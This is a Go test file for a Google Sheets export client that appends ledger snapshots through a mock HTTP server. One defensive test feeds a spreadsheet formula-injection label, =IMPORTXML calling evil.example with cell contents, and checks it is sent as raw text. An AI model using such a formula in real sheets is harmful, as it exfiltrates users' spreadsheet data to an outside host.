package google

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"

	"splitter/internal/core"
	"splitter/internal/log"
	"splitter/internal/sheets"
)

func TestNew_MissingSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), Options{CredentialsJSON: "{}"})
	if err == nil || err.Error() != "missing spreadsheet id" {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestNew_MissingCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")

	_, err := New(context.Background(), Options{SpreadsheetID: "sheet"})
	if err == nil || !strings.Contains(err.Error(), "missing service account credentials") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestNew_UnreadableCredentialsFile(t *testing.T) {
	_, err := New(context.Background(), Options{SpreadsheetID: "sheet", CredentialsFile: "/non/existent.json"})
	if err == nil || !strings.Contains(err.Error(), "read service account file") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestClient_Export(t *testing.T) {
	var gotBody gsheet.ValueRange
	var gotQuery string
	var gotPath string

	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.Path
		gotQuery = r.URL.RawQuery
		if err := json.NewDecoder(r.Body).Decode(&gotBody); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-1","updates":{"updatedRange":"Snapshots!A10:G15"}}`))
	}))
	defer srv.Close()

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	client := NewWithService(svc, "sheet-1", "", log.Discard())

	lg := core.ExampleLedger()
	ref, err := client.Export(context.Background(), sheets.Snapshot{
		ID:      "snap-1",
		SavedAt: time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC),
		Ledger:  lg,
		Summary: core.Calculate(lg),
	})
	if err != nil {
		t.Fatalf("Export() error = %v", err)
	}

	if ref != "Snapshots!A10:G15" {
		t.Errorf("ref = %q", ref)
	}
	if !strings.Contains(gotPath, "sheet-1") || !strings.HasSuffix(gotPath, ":append") {
		t.Errorf("unexpected path %q", gotPath)
	}
	if !strings.Contains(gotPath, "Snapshots!A:G") {
		t.Errorf("range should span the seven snapshot columns, path %q", gotPath)
	}
	if !strings.Contains(gotQuery, "valueInputOption=RAW") {
		t.Errorf("expected RAW input, got query %q", gotQuery)
	}
	if len(gotBody.Values) != 6 {
		t.Fatalf("expected 6 rows, got %d", len(gotBody.Values))
	}
	if gotBody.Values[0][3] != "Person 1" || gotBody.Values[5][2] != "total" {
		t.Errorf("unexpected rows %v", gotBody.Values)
	}
}

func TestClient_ExportError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, `{"error":{"code":403,"message":"denied"}}`, http.StatusForbidden)
	}))
	defer srv.Close()

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	client := NewWithService(svc, "sheet-1", "Snapshots", log.Discard())

	_, err = client.Export(context.Background(), sheets.Snapshot{ID: "x"})
	if err == nil || !strings.Contains(err.Error(), "append to sheet Snapshots") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestClient_ExportWithoutService(t *testing.T) {
	client := &Client{}
	if _, err := client.Export(context.Background(), sheets.Snapshot{}); err == nil {
		t.Fatal("expected error")
	}
}

func TestClient_ExportKeepsFormulaLabelsAsText(t *testing.T) {
	var gotBody gsheet.ValueRange
	var gotQuery string

	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotQuery = r.URL.RawQuery
		if err := json.NewDecoder(r.Body).Decode(&gotBody); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-1"}`))
	}))
	defer srv.Close()

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	client := NewWithService(svc, "sheet-1", "Snapshots", log.Discard())

	label := `=IMPORTXML("https://evil.example/?q="&A1,"//a")`
	lg := core.Ledger{}
	lg.Add(core.Contribution, label, "100")
	lg.Add(core.Expense, "+SUM(A1:A9)", "-1,5")

	if _, err := client.Export(context.Background(), sheets.Snapshot{
		ID:      "snap-2",
		Ledger:  lg,
		Summary: core.Calculate(lg),
	}); err != nil {
		t.Fatalf("Export() error = %v", err)
	}

	if strings.Contains(gotQuery, "USER_ENTERED") || !strings.Contains(gotQuery, "valueInputOption=RAW") {
		t.Errorf("cells must be sent as RAW, got query %q", gotQuery)
	}
	if len(gotBody.Values) != 3 {
		t.Fatalf("expected 3 rows, got %d", len(gotBody.Values))
	}
	if gotBody.Values[0][3] != label {
		t.Errorf("label cell = %v, want %q", gotBody.Values[0][3], label)
	}
	if gotBody.Values[1][4] != "-1,5" {
		t.Errorf("value cell = %v, want unchanged", gotBody.Values[1][4])
	}
}
